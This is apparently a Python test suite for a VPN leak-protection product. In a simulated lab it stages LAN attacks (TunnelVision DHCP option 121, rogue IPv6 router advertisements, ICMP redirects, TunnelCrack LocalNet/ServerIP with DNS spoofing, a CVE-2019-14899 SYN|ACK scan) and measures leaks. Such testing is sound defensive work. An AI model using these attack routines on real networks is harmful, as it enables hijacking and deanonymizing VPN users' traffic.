"""T4, T5, T7 and T9: whoever is on the same LAN."""

from __future__ import annotations

import asyncio
import contextlib
import os
import select
import shutil
import socket
import time
from dataclasses import replace as changed

from mock_provider.capture import Capture, Packet
from mock_provider.peer import Echo, Peer
from mock_provider.provider import ENDPOINT_NAME
from mock_provider.topology import CLIENT, INTERNET, LAN_HOST, ROUTER, SERVER
from mock_provider.wireguard import GATEWAY, PORT
from tests.attack import frames
from tests.attack.attack import Attack
from tests.attack.probes import TCP, TCP6, UDP, UDP6, Probe, Tally, bound
from tests.attack.world import (
    Score,
    Side,
    half_routes,
    ip,
    ipv4_only,
    product,
    switched,
    under_probes,
    until,
    wg_quick,
)
from vpnpf.io.process import SEARCH

PACKETS = (UDP, TCP)
TUNNEL_NETWORK = "10.2.0."
WANTED = range(1, 255)
PUBLIC_LAN = "203.0.113.7/24"
BAD_PREFIX, BAD_ROUTE = "2001:db8:bad::/64", "2001:db8:80::/48"
SCRIPT = """\
#!/bin/sh
# What a DHCP client's script does with option 121 (RFC 3442).
[ "$1" = bound ] || exit 0
set -- $staticroutes
while [ $# -ge 2 ]; do
    ip route replace "$1" via "$2" dev eth0
    shift 2
done
"""


async def site_answers(made: Side) -> bool:
    """Whether a site on the internet is reached: by the tunnel, if nothing leaks."""
    async with Echo(made.provider.lab.internet, INTERNET, 80):
        return (await Peer(made.client).connect_tcp(INTERNET, 80, send=b"hello", deadline=5)).connected


# -- T4: routes ------------------------------------------------------------------------------------


def dhcp_client() -> tuple[str, ...]:
    """By its own name, or as a part of busybox."""
    return ("udhcpc",) if shutil.which("udhcpc", path=os.pathsep.join(SEARCH)) else ("busybox", "udhcpc")


async def tunnelvision(made: Side) -> Score:
    """Real DHCP: a server of the attacker's, a client that asks for option 121 and does as it is told."""

    async def act(_tally: Tally) -> str:
        option = f"121,0.0.0.0/0,{ROUTER},203.0.113.0/24,{LAN_HOST}"
        lease = f"--dhcp-range={CLIENT},{CLIENT},255.255.255.0,1h"
        quiet = ("--keep-in-foreground", "--log-facility=-", "--conf-file=/dev/null", "--pid-file=", "--user=root")
        alone = ("--port=0", "--interface=eth0", "--no-ping", "--dhcp-authoritative", "--leasefile-ro")
        server = await made.attacker.popen(("dnsmasq", *quiet, *alone, lease, f"--dhcp-option={option}"))
        try:
            assert server.stderr is not None
            async with asyncio.timeout(5):
                while b"DHCP, IP range" not in (line := await server.stderr.readline()):
                    assert line, "dnsmasq ended"
            script = made.directory / "dhcp-script"
            script.write_text(SCRIPT)
            script.chmod(0o755)
            asking = (
                *dhcp_client(),
                "-i",
                "eth0",
                "-f",
                "-n",
                "-q",
                "-t",
                "5",
                "-T",
                "1",
                "-O",
                "121",
                "-s",
                str(script),
            )
            await made.client.must(asking)
        finally:
            with contextlib.suppress(ProcessLookupError):
                server.kill()
            await server.communicate()
        assert f"203.0.113.0/24 via {LAN_HOST}" in await made.client.must(("ip", "route"))
        if made.guarded:
            assert await site_answers(made), "no leak, but the site is out of reach"
            return "site still reached"
        return ""

    return await under_probes(made, PACKETS, act)


async def listen_to_routers(made: Side) -> None:
    """As network managers do that take routes out of router advertisements."""
    made.client.sysctl("net.ipv6.conf.eth0.accept_ra_rt_info_max_plen", 64)


async def no_ipv6_yet(made: Side) -> None:
    """Before the attack the LAN has no IPv6 but for the link's own."""
    await ip(made.client, "addr flush dev eth0 scope global\nroute flush default\n", "-6")


async def advertise(made: Side, *, prefix: str = "", routes: tuple[str, ...] = (), shown: tuple[str, str]) -> None:
    """A router advertisement to the LAN, until `ip -6 KIND` on the machine says what it should lead to."""
    by = await frames.hardware_address(made.attacker)
    message = frames.router_advertisement(by, prefix=prefix, routes=routes)
    kind, wanted = shown
    with made.attacker.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sender:
        sender.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        with made.attacker.inside():
            index = socket.if_nametoindex("eth0")
        sender.sendto(message, ("ff02::1", 0, 0, index))
        await until(lambda: made.client.must(("ip", "-6", kind)), lambda listing: wanted in listing)


async def router_routes(made: Side) -> Score:
    async def act(_tally: Tally) -> None:
        await advertise(made, routes=(BAD_ROUTE,), shown=("route", BAD_ROUTE))

    return await under_probes(made, (UDP6, TCP6), act)


async def ipv6_comes_up(made: Side) -> Score:
    async def act(_tally: Tally) -> None:
        await advertise(made, prefix=BAD_PREFIX, shown=("addr", BAD_PREFIX.removesuffix("::/64")))

    return await under_probes(made, (UDP6, TCP6, bound(UDP6)), act)


async def redirected(made: Side) -> Score:
    """The tunnel's own packets are to go by way of the attacker, who could drop them or tell when they flow."""
    lab = made.provider.lab

    def is_tunnel(packet: Packet) -> bool:
        return packet.outbound and (packet.destination, packet.destination_port) == (SERVER, PORT)

    ours = await made.stack.enter_async_context(lab.capture(is_tunnel))
    by, to = await frames.hardware_address(made.attacker), await frames.hardware_address(made.client)
    theirs = Capture(made.attacker.socket, "eth0", lab.router.socket, "br0", is_tunnel)
    sent = 0
    async with theirs:
        with made.attacker.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
            sender.bind(("eth0", 0))
            # The machine must know the neighbour to take a redirect to it: he asks first.
            sender.send(frames.arp_question(by, LAN_HOST, CLIENT))
            for _ in range(20):
                await Peer(made.client).send_udp(INTERNET, 9, deadline=0.02)
                await ours.seen()
                packet = frames.redirect(ROUTER, ours.packets[-1], LAN_HOST)
                sender.send(frames.ethernet(to, by, frames.ETH_IP, packet))
                sent += 1
        leaked = await theirs.count()
    return Score(sent, leaked)


async def public_lan(made: Side) -> None:
    """The access point calls the internet its LAN, and answers for it."""
    await ip(made.client, f"addr add {PUBLIC_LAN} dev eth0\n")
    await ip(made.attacker, f"addr add {INTERNET}/24 dev eth0\n")


async def local_net(made: Side) -> Score:
    return await under_probes(made, (*PACKETS, bound(UDP)))


async def tunnels_network(made: Side) -> None:
    """The access point gives out the tunnel's own network, and answers as its gateway and resolver."""
    await ip(made.client, "addr add 10.2.0.9/24 dev eth0\n")
    await ip(made.attacker, f"addr add {GATEWAY}/24 dev eth0\n")


async def posing_as_gateway(made: Side) -> Score:
    probes = (
        Probe("mapping", "udp", GATEWAY, 5351),
        Probe("name", "udp", GATEWAY, 53),
        Probe("tcp", "tcp", GATEWAY, 80),
    )
    return await under_probes(made, probes)


# -- T5: the server's name -------------------------------------------------------------------------


async def spoof_name(made: Side) -> None:
    """The LAN's resolver says that the server is where the attacker wants to read along."""
    made.provider.isp_dns.names[ENDPOINT_NAME] = INTERNET
    made.endpoint = INTERNET
    made.customer = changed(made.provider.customer, endpoint=f"{INTERNET}:{PORT}")


async def product_at_the_wrong_server(made: Side) -> None:
    await product(made, named=True, wait=lambda state: state["phase"] == "connecting")
    handshakes = made.provider.lab.capture(
        lambda packet: (packet.destination, packet.destination_port) == (INTERNET, PORT)
    )
    async with handshakes:
        await handshakes.seen()


async def server_ip(made: Side) -> Score:
    to_port = Probe("to its port", "udp", INTERNET, PORT)
    return await under_probes(made, (*PACKETS, to_port, Probe("to its port by eth0", "udp", INTERNET, PORT, "eth0")))


# -- T7: the tunnel's address ----------------------------------------------------------------------


async def ask_for_all(made: Side, ask, read) -> Score:
    """Try every address of the tunnel's network, then one that must answer; what `read` finds in the frames leaked."""
    by, to = await frames.hardware_address(made.attacker), await frames.hardware_address(made.client)
    found = []
    with made.attacker.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as wire:
        wire.bind(("eth0", 3))
        for number in WANTED:
            wire.send(ask(by, to, f"{TUNNEL_NETWORK}{number}"))
        wire.send(frames.arp_question(by, LAN_HOST, CLIENT))
        until = time.monotonic() + 5
        while True:
            assert time.monotonic() < until, "the machine does not answer for its own address: this proves nothing"
            if not select.select([wire], [], [], 0.2)[0]:
                continue
            frame = wire.recv(2048)
            if frame[6:12] != to:
                continue
            if frames.arp_answer(frame) == CLIENT:
                break
            if address := read(frame):
                found.append(address)
    return Score(len(WANTED), len(found), note=" ".join(sorted(set(found))))


async def syn_ack_scan(made: Side) -> Score:
    def ask(by: bytes, to: bytes, address: str) -> bytes:
        return frames.ethernet(to, by, frames.ETH_IP, frames.syn_ack(LAN_HOST, address, 443, 40404))

    def read(frame: bytes) -> str:
        source = socket.inet_ntoa(frame[26:30]) if frame[12:14] == b"\x08\x00" else ""
        return source if source.startswith(TUNNEL_NETWORK) else ""

    return await ask_for_all(made, ask, read)


async def arp_scan(made: Side) -> Score:
    def ask(by: bytes, _to: bytes, address: str) -> bytes:
        return frames.arp_question(by, LAN_HOST, address)

    def read(frame: bytes) -> str:
        address = frames.arp_answer(frame)
        return address if address.startswith(TUNNEL_NETWORK) else ""

    return await ask_for_all(made, ask, read)


ATTACKS = (
    Attack("T4a", "TunnelVision: DHCP option 121", "wg-quick", tunnelvision, wg_quick),
    Attack("T4b", "route in a router advertisement", "wg-quick", router_routes, wg_quick, before=listen_to_routers),
    Attack("T4c", "ICMP redirect of the tunnel itself", "wg-quick", redirected, wg_quick),
    Attack("T4d", "TunnelCrack LocalNet: public LAN", "wg-quick", local_net, wg_quick, before=public_lan),
    Attack("T4e", "LAN with the tunnel's own network", "wg-quick", posing_as_gateway, wg_quick, before=tunnels_network),
    Attack(
        "T5",
        "TunnelCrack ServerIP: spoofed name",
        "host route to the server",
        server_ip,
        half_routes,
        guard=product_at_the_wrong_server,
        before=spoof_name,
    ),
    Attack("T7a", "CVE-2019-14899: SYN|ACK scan", "routes alone", syn_ack_scan, half_routes),
    Attack("T7b", "ARP for the tunnel's address", "routes alone", arp_scan, half_routes),
    Attack(
        "T9b",
        "IPv6 appears: rogue router",
        "kill switch in table ip",
        ipv6_comes_up,
        switched(half_routes, ipv4_only),
        before=no_ipv6_yet,
    ),
)
